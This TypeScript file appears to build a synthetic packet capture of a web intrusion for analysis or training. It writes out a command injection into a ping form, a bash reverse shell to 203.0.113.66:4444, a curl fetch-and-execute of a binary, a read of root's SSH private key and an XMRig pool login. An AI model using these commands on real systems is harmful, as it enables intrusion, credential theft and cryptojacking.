/** reverse-shell.pcap: command injection into a form, the shell that comes of it, and what is done with the shell. */
import { httpRequest, httpResponse } from '../application-messages.js';
import { concat } from '../packet-builder.js';
import { Recording } from '../recording.js';
import { ATTACKER, CUSTOMER, noise, WEB } from './actors.js';

/** What is typed, and what the shell answers. */
const SESSION: readonly (readonly [typed: string, answer: string])[] = [
  ['id\n', 'uid=0(root) gid=0(root) groups=0(root)\n'],
  ['uname -a\n', 'Linux shop 6.1.0-28-cloud-amd64 #1 SMP x86_64 GNU/Linux\n'],
  [`python3 -c 'import pty; pty.spawn("/bin/bash")'\n`, 'root@shop:/srv# '],
  ['curl -s http://203.0.113.66/m -o /tmp/m && chmod +x /tmp/m && /tmp/m &\n', '[1] 4242\nroot@shop:/srv# '],
  [
    'cat /root/.ssh/id_ed25519\n',
    `-----BEGIN OPENSSH PRIVATE KEY-----\n${Buffer.from(noise(48, 11)).toString('base64')}\n-----END OPENSSH PRIVATE KEY-----\n`,
  ],
];

export function reverseShell(): Recording {
  const recording = new Recording();
  const form = 'host=127.0.0.1;bash -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"';
  recording
    .tcp(`${ATTACKER}:50200`, `${WEB}:80`)
    .open()
    .client(httpRequest('GET /ping?host=127.0.0.1;whoami'))
    .server(httpResponse('200 OK', 'root\n'))
    .close();
  const exploit = recording
    .wait(2000)
    .tcp(`${ATTACKER}:50201`, `${WEB}:80`)
    .open()
    .client(httpRequest('POST /ping', { body: form }));

  const shell = recording.tcp(`${WEB}:38822`, `${ATTACKER}:4444`).open();
  shell.client(
    'bash: cannot set terminal process group (812): Inappropriate ioctl for device\nbash: no job control in this shell\n',
  );
  for (const [typed, answer] of SESSION) {
    recording.wait(2500);
    shell.server(typed).client(answer);
  }

  const program = concat('\x7fELF\x02\x01\x01', new Uint8Array(9), noise(6000, 21));
  const loaded = httpResponse('200 OK', Buffer.from(program).toString('latin1'), {
    'Content-Type': 'application/octet-stream',
  });
  recording
    .tcp(`${WEB}:38830`, `${ATTACKER}:80`)
    .open()
    .client(httpRequest('GET /m', { headers: { Host: ATTACKER, 'User-Agent': 'curl/7.88.1' } }))
    .server(loaded)
    .close();
  const miner = recording.wait(900).tcp(`${WEB}:38840`, `${CUSTOMER}:3333`).open();
  miner.client(
    '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48example","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64)"}}\n',
  );
  miner.server('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","job":{"height":3100000},"status":"OK"}}\n');
  recording.wait(4000);
  exploit.server(httpResponse('504 Gateway Timeout', 'timeout')).close();
  shell.close();
  miner.close();
  return recording;
}
